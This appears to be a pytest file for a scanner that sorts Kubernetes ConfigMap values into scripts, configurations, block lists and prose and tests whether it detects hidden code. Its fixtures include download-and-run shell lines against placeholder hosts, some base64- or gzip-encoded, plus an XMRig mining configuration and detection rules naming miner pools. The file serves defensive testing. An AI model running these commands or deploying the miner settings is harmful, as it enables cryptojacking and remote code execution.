"""Of a ConfigMap, what runs and what sets something up is read; lists and prose only talk about names."""

import base64
import gzip
import json
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from aup.signatures import config_maps
from aup.signatures.config_maps import MOST_READ, around, reading, sort_of, texts
from aup.signatures.decoding import from_base64
from aup.signatures.detectors import built_in
from aup.signatures.scan import Scan
from aup.workload import NOTHING
from tests.growth import grows_linearly

POOLS = ["pool.supportxmr.example", "xmr.nanopool.example", "gulf.moneroocean.example", "eu.miner.example"]

MINER = {
    "autosave": True,
    "cpu": {"enabled": True, "max-threads-hint": 100},
    "donate-level": 1,
    "pools": [
        {"algo": "rx/0", "coin": "monero", "url": "pool.example:3333", "user": "44AFF", "pass": "x", "tls": False}
    ],
}
BLOCK_LIST = "# miners\n" + "".join(f"0.0.0.0 {host}\n" for host in POOLS)
FALCO = """- list: miner_domains
  items: ["pool.example", "xmr.example"]
- rule: Detect crypto miners using the Stratum protocol
  condition: spawned_process and (proc.cmdline contains "stratum+tcp" or proc.name = xmrig)
  output: miner started (command=%proc.cmdline)
  priority: CRITICAL
"""
SIGMA = """title: Miner
logsource:
  category: process_creation
detection:
  selection:
    CommandLine|contains:
      - ' --donate-level='
      - 'stratum+tcp://'
  condition: selection
"""
GRAFANA = json.dumps({"panels": [{"title": "xmrig hashrate", "url": "http://pool.example"}], "schemaVersion": 39})
PROMETHEUS = """groups:
  - name: miners
    rules:
      - alert: Miner
        expr: rate(container_cpu{image=~".*xmrig.*"}[5m]) > 0
"""
README = """# How we block miners

We watch for xmrig and for connections to pool.example on port 3333, because somebody once ran
a miner in our cluster. If you see one, write to us, and please leave it running until then.
"""
YARA = 'rule miner {\n  strings:\n    $a = "stratum+tcp://"\n  condition:\n    $a\n}\n'


def config_map(**data: str) -> dict[str, Any]:
    """A ConfigMap with these values; `_` stands for a dot."""
    return {"kind": "ConfigMap", "data": {key.replace("_dot_", "."): value for key, value in data.items()}}


def words(manifest: dict[str, Any]) -> list[str]:
    """Every word, name and value that is read."""
    return [*reading(texts(manifest)).texts()]


@pytest.mark.parametrize(
    ("key", "text", "sort"),
    [
        ("run.sh", "x", "script"),
        ("entrypoint", "#!/bin/sh\nx", "script"),
        ("start", "set -e\ncurl -o x http://a.example\nchmod +x x\n./x --fast", "script"),
        ("start", "cd /tmp; wget http://a.example/x; chmod +x x; ./x", "script"),
        ("start", "W=44AFF\nPOOL=a.example:1\nB=x\nexec $B -o $POOL -u $W", "script"),
        ("job.py", "import os", "script"),
        ("daemons", "bgpd=yes\nospfd=no\nzebra_options='-A 127.0.0.1'", "configuration"),
        ("config.json", json.dumps(MINER), "configuration"),
        ("config.json", json.dumps(MINER, indent=1), "configuration"),
        ("config.json", json.dumps({**MINER, "panels": [], "schemaVersion": 1}), "configuration"),
        ("application.yaml", "server:\n  port: 8080\n  host: web.example\n", "configuration"),
        ("app.ini", "[server]\nport = 8080\n", "configuration"),
        ("app.properties", "log.mining.strategy=hybrid\n", "configuration"),
        ("nginx.conf", "server {\n  listen 80;\n  location / {\n    return 200;\n  }\n}\n", "configuration"),
        ("args", "-o pool.example:3333 -u me -p x", "configuration"),
        ("pool", "pool.example:3333", "configuration"),
        ("adlists.list", BLOCK_LIST, "list"),
        ("hosts", "".join(f"{host}\n" for host in POOLS), "list"),
        ("adguard.txt", "".join(f"||{host}^\n" for host in POOLS), "list"),
        ("dnsmasq.conf", "".join(f"address=/{host}/0.0.0.0\n" for host in POOLS), "list"),
        ("unbound.conf", "".join(f'local-zone: "{host}" always_nxdomain\n' for host in POOLS), "list"),
        ("zone.rpz", "".join(f"{host} CNAME .\n" for host in POOLS), "list"),
        ("blocked.json", json.dumps(POOLS * 2), "list"),
        ("blocked.yaml", "".join(f"- {host}\n" for host in POOLS), "list"),
        ("falco_rules.yaml", FALCO, "list"),
        ("sigma.yml", SIGMA, "list"),
        ("miner.yar", YARA, "list"),
        ("suricata.rules", 'alert tcp any any -> any 3333 (msg:"stratum"; content:"mining.subscribe";)\n', "list"),
        ("dashboard.json", GRAFANA, "list"),
        ("rules.yaml", PROMETHEUS, "list"),
        ("unbound.conf", f'server:\n  local-zone: "{POOLS[0]}" refuse\n', "list"),
        ("deny.rego", 'package x\ndeny[m] { contains(input.image, "xmrig"); m := "no" }\n', "list"),
        ("block.yaml", "apiVersion: x/v1\nkind: RuntimePolicy\nspec: {paths: [/usr/bin/xmrig]}\n", "list"),
        ("pod.yaml", "apiVersion: v1\nkind: Pod\nspec: {image: xmrig}\n", "configuration"),
        ("README.md", README, "prose"),
        ("notes", README, "prose"),
        ("notes.txt", "We block pool.example because miners once ran here and cost us a lot of money.", "prose"),
    ],
)
def test_each_value_has_its_sort(key: str, text: str, sort: str) -> None:
    """By its key, its first line and most of the others."""
    assert sort_of(key, text) == sort


@pytest.mark.parametrize("text", [BLOCK_LIST, FALCO, SIGMA, GRAFANA, PROMETHEUS, README, YARA])
def test_lists_and_prose_say_nothing(text: str) -> None:
    """Names, hosts and protocols in them are no evidence."""
    assert words(config_map(value=text)) == []


def test_a_script_is_read_as_a_shell_would() -> None:
    """With the path of its key, its pipelines told, and the whole text with it."""
    found = reading(texts(config_map(run_dot_sh="#!/bin/sh\ncurl http://a.example/x | sh\n")))

    assert [[word for _, word in each.words] for each in found.commands] == [
        ["run.sh"],
        ["curl", "http://a.example/x"],
        ["sh"],
    ]
    assert {at for each in found.commands for at, _ in each.words} == {"data[run.sh]"}
    assert found.commands[2].piped


@pytest.mark.parametrize(
    "text",
    [
        json.dumps(MINER),
        json.dumps(MINER, indent=4),
        "// comment\n" + json.dumps(MINER, indent=4),
        "donate-level: 1\npools:\n- url: pool.example:3333\n  user: '44AFF'\n  pass: \"x\"\n"
        "  coin: monero\n  algo: rx/0\n",
        "donate-level=1\nurl = pool.example:3333\nuser = 44AFF\npass = x\ncoin=monero\nalgo=rx/0\n",
    ],
)
def test_settings_are_read_as_options(text: str) -> None:
    """What stands in a configuration file is what a program would take as an option, in whatever format."""
    found = words(config_map(config_dot_json=text))

    wanted = {"--url=pool.example:3333", "--user=44AFF", "--pass=x", "--coin=monero", "--algo=rx/0", "--donate-level=1"}
    assert wanted <= set(found)
    assert "pool.example:3333" in " ".join(found).split()


def test_values_for_the_environment_are_variables() -> None:
    """One with a name for each key, and those of an env file."""
    found = reading(
        texts(
            config_map(POOL_URL="pool.example:3333", RUN="curl x | sh", app_dot_env="WALLET=44AFF\nexport MODE=fast\n")
        )
    )

    assert [(each.path, each.name, each.value) for each in found.environment] == [
        ("data[POOL_URL]", "POOL_URL", "pool.example:3333"),
        ("data[RUN]", "RUN", "curl x | sh"),
        ("data[app.env]", "WALLET", "44AFF"),
        ("data[app.env]", "MODE", "fast"),
    ]
    assert [word for each in found.environment[1].commands for _, word in each.words] == ["curl", "x", "sh"]


def test_binary_data_and_base64_are_opened() -> None:
    """Compressed or not; what is no text is not read."""
    code = b"#!/bin/sh\ncurl http://a.example/x | sh\n"
    manifest = {
        "data": {"hidden": base64.encodebytes(code).decode()},
        "binaryData": {
            "run.sh": base64.b64encode(code).decode(),
            "run.gz": base64.b64encode(gzip.compress(code, mtime=0)).decode(),
            "logo.png": base64.b64encode(b"\x89PNG\0\0\0").decode(),
        },
    }

    assert [(each.path, each.sort) for each in texts(manifest) if "a.example" in each.text] == [
        ("data[hidden]", "script"),
        ("binaryData[run.sh]", "script"),
        ("binaryData[run.gz]", "script"),
    ]
    assert words(manifest).count("http://a.example/x") == 3


def test_only_the_keys_that_are_asked_for_are_read() -> None:
    """The others are left."""
    manifest = config_map(a_dot_sh="one", b_dot_sh="two")

    assert [*reading(each for each in texts(manifest) if each.key == "b.sh").texts()] == ["b.sh", "two"]


def test_of_a_large_value_whole_lines_around_the_needles_are_read() -> None:
    """However large it is, so much and no more."""
    filler = "echo nothing to see here\n" * 20_000
    manifest = config_map(run_dot_sh=f"#!/bin/sh\n{filler}curl http://a.example/x | sh\n{filler}")

    found = reading(texts(manifest), needles=["a.example"])
    said = [*found.texts()]
    assert "http://a.example/x" in said
    assert sum(map(len, said)) <= MOST_READ
    assert found.exceeded


def test_around_keeps_whole_lines() -> None:
    """Places that are close to each other share theirs."""
    text = "".join(f"{number} {'x' * 100}\n" for number in range(1_000))
    found = around(text, ["500 x", "501 x", "\n900\n", "\n"], MOST_READ)

    assert "500 x" in found
    assert "900 x" in found
    assert all(line in text for line in found.split("\n"))
    assert len(found) < len(text) / 2


def test_a_needle_that_is_everywhere_does_not_hide_another() -> None:
    """Each has its first place before any has its second."""
    text = "".join(f"{number} needle {'x' * 100}\n" for number in range(9_000)) + "the other\n"

    assert "the other" in around(text, ["needle", "other"], MOST_READ)


@pytest.mark.parametrize(
    "piece", ["a.", "logsource:\n", "rule x\n", '"', "[", "a:", "- ", "0.0.0.0 a.b\n", "x=y ", "{", "\\", "a=$a;"]
)
def test_no_value_takes_long(piece: str) -> None:
    """Up to a quarter of a megabyte of anything."""
    assert grows_linearly(lambda size: reading(texts(config_map(value=piece * (size // len(piece))))), 64 * 1024)


@pytest.mark.parametrize(
    "manifest",
    [{}, {"data": []}, {"data": {"a": 1}}, {"data": {"a": None}, "binaryData": {"b": "%"}}, {"binaryData": "x"}],
)
def test_malformed_data_says_nothing(manifest: dict[str, Any]) -> None:
    """What is no text is no value."""
    assert words(manifest) == []


@given(st.dictionaries(st.sampled_from(["A", "a.sh", "c.json", "x"]), st.text(max_size=200), max_size=3))
def test_no_value_breaks_the_reading(data: dict[str, str]) -> None:
    """Whatever stands there."""
    words({"data": data, "binaryData": data})


def test_each_value_is_opened_once(monkeypatch: pytest.MonkeyPatch) -> None:
    """However many scripts a ConfigMap has, so that its cost grows with its text alone."""
    opened: list[str] = []

    def counted(word: str) -> bytes:
        opened.append(word)
        return from_base64(word)

    monkeypatch.setattr(config_maps, "from_base64", counted)
    code = base64.b64encode(b"#!/bin/sh\necho $A\n").decode()
    scan = Scan(built_in(), NOTHING, {"binaryData": {f"{number}.sh": code for number in range(50)}})

    assert scan.topics == frozenset()
    assert opened == [code] * 50
